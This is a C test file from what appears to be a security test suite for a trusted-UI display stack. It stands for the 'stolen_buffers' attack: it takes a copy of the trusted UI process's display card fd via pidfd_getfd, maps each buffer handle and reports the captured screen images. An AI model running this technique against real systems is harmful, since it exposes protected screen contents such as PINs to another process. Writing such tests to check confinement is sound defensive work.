// SPDX-License-Identifier: Apache-2.0
/*
 * Takes a copy of the dialog's fd of the card and maps all buffers that belong to it.
 *
 * attack: stolen_buffers
 * class: screen
 * when: session
 * judge: picture-read
 * defence: confinement
 * why: pidfd_getfd; the REE attaches to nobody, and a session's buffer does not belong to the app's fd
 */
#include <string.h>

#include "process.h"
#include "report.h"
#include "screen.h"

#define HANDLES 64	/* from 1 on */

int main(void)
{
	unsigned int mapped = 0;
	struct screen s;
	uint32_t handle;
	int ret;

	attack_init();
	ret = screen_open(&s);
	if (ret)
		attack_failed("no screen: %s", strerror(-ret));
	attack_ready();
	attack_wait(1000);
	s.card = process_steal_fd(process_wait_tui(), SCREEN_CARD);
	if (s.card < 0)
		attack_failed("tconn-tui's fd cannot be had: %s", strerror(-s.card));
	for (handle = 1; handle < HANDLES; handle++) {
		struct screen_buffer b = {
			.handle = handle, .width = s.mode.hdisplay, .height = s.mode.vdisplay,
			.pitch = s.mode.hdisplay * 4u,
			.size = s.mode.hdisplay * 4u * s.mode.vdisplay,
		};

		if (screen_map_handle(s.card, &b))
			continue;
		attack_picture();
		screen_report(b.map, b.pitch, b.width, b.height);
		mapped++;
	}
	if (!mapped)
		attack_failed("the fd has no buffers");
	attack_succeeded("mapped %u buffers", mapped);
}
